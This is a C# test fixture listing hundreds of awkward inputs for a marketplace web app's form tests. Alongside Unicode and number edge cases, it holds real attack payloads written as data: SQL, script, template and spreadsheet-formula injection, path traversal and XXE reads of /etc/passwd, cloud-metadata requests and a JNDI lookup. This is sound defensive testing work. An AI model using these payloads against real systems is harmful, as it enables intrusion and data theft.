using System.Text;

namespace Marketplace.Web.Tests.Pages;

/// <summary>Some five hundred things that people and scanners type into fields.</summary>
internal static class NaughtyStrings
{
    private static readonly string[] Written =
    [
        "", " ", "\t", "\n", "\r\n", "null", "NULL", "undefined", "true", "false", "None", "nil", "NaN", "Infinity", "-Infinity",
        "0", "-0", "-1", "1/0", "0x0", "0xffffffff", "1e309", "-1e309", "1E+1000", "9223372036854775807", "9223372036854775808",
        "-9223372036854775809", "2147483648", "4294967296", "0.1", "0,1", "1.000,00", "1,000.00", "1 000,00", "١٢٣", "１２３", "½", "Ⅷ",
        "2026-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "31/31/2026", "24:61", "1970-01-01T00:00:00Z",
        "'", "''", "\"", "`", "\\", "/", "%", "%%", "%s", "%n%n%n", "%00", "%0d%0aSet-Cookie:x=1", "{0}", "{{7*7}}", "${7*7}", "#{7*7}",
        "<%= 7*7 %>", "@(7*7)", "{% raw %}", "[[x]]", "' OR 1=1 --", "1; DROP TABLE \"People\"--", "' UNION SELECT * FROM \"People\" --",
        "\"; DELETE FROM \"Sellers\"; --", "1' AND SLEEP(5)#", "pg_sleep(5)", "||(SELECT 1)||", "%' ESCAPE '", "_%_", "[a-z]*", "(a+)+$",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>alert(1)</script>",
        "javascript:alert(1)", "jaVasCript:alert(1)", "data:text/html,<script>alert(1)</script>", "<iframe src=//evil.example>",
        "</textarea><script>alert(1)</script>", "</title><b>", "<!--", "-->", "]]>", "<![CDATA[", "&lt;b&gt;", "&#x41;", "&nbsp;",
        "<a href=\"javascript:alert(1)\">x</a>", "<style>*{display:none}</style>", "<base href=//evil.example/>",
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil.example\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.jpg", "file:///etc/passwd", "C:\\", "CON", "PRN", "aux.txt",
        "http://169.254.169.254/", "http://localhost:5432", "//evil.example", "\\\\evil.example\\x", "ldap://x", "${jndi:ldap://x/a}",
        "a@b", "@", "a@", "@b.c", "a@b@c", "\"a b\"@example.com", "a@[127.0.0.1]", "ä@exämple.com", "a@example.com\nBcc: b@example.com",
        "a@example.com,b@example.com", "<a@example.com>", "a@" + "b.c", "x'@example.com", "user@xn--80ak6aa92e.com",
        "Zoë", "Ærøskøbing", "Łódź", "Ångström", "naïve façade", "東京都", "서울", "Москва", "Αθήνα", "القاهرة", "ירושלים", "กรุงเทพ", "नई दिल्ली",
        "தமிழ்", "မြန်မာ", "ខ្មែរ", "ქართული", "Հայերեն", "ᚠᛇᚻ", "𝕳𝖊𝖑𝖑𝖔", "ﷺ", "ﬁ", "ǆ", "ẞ", "İi", "ıI", "K", "Å", "Ω",
        "😀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇳🇱", "👍🏿", "0️⃣", "❤️", "😀😀😀😀😀😀😀😀", "e\u0301", "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "\u0301", "\u200b", "a\u200bb", "\u200d",
        "\u202eevil", "\u202a\u202b\u202c", "\u2066x\u2069", "\ufeffbom", "\u00ad", "\u00a0", "\u2028", "\u2029", "\u3000", "\u180e", "\u2060",
        "\ufffd", "\ufffe", "\uffff", "\u0000", "a\u0000b", "\u0001\u0002\u0003", "\u0008", "\u001b[31mred", "\u007f", "\u0085", "\ud800", "\udc00",
        "\ud83d", "{\"a\":1}", "[1,2,3]", "{\"$ne\":null}", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "O:8:\"stdClass\":0:{}", "rO0ABXNy", "__proto__", "constructor", "toString", "hasOwnProperty", "length", "__class__", "admin", "root",
        "Robert'); DROP TABLE Students;--", "O'Brien", "D'Artagnan-Smythe", "de la Croix y Ruiz", "X Æ A-12", "Mc Donald", "A", "I",
        "+31 (0)6 1234-5678", "0031612345678", "tel:+31", "112", "1234 AB", "SW1A 1AA", "90210-0000", "00000", "NL", "nl", "XX", "EU", "USD", "XXX",
        "eur", "€", "$1.00", "1.00$", "1,5", "1.555", "-0.01", "0.001", "99999999999999999999", "1_000", "١٫٥", "1e2", "0b1", "07", "+5",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Written.Concat(Made()).Distinct()];

    private static IEnumerable<string> Made()
    {
        foreach (var length in (int[])[60, 61, 100, 101, 150, 151, 255, 256, 257, 400, 1000, 4001, 65_537])
        {
            yield return new string('a', length);
            yield return new string('é', length);
            yield return string.Concat(Enumerable.Repeat("😀", Math.Min(length, 5000) / 2));
            yield return string.Concat(Enumerable.Repeat("a ", length / 2));
        }

        // Each control character and each sign of ASCII alone, and inside a word.
        for (var code = 1; code < 128; code++)
        {
            if (char.IsAsciiLetterOrDigit((char)code)) continue;
            yield return ((char)code).ToString();
            yield return $"a{(char)code}b";
        }

        // One letter of each block, so that no encoding is forgotten.
        for (var code = 0x00c0; code < 0x3100; code += 0x100) yield return new StringBuilder().Append((char)code, 3).ToString();
        foreach (var plane in (int[])[0x10000, 0x1F300, 0x20000, 0x2F800, 0xE0001, 0xF0000, 0x10FFFF]) yield return char.ConvertFromUtf32(plane);
    }
}
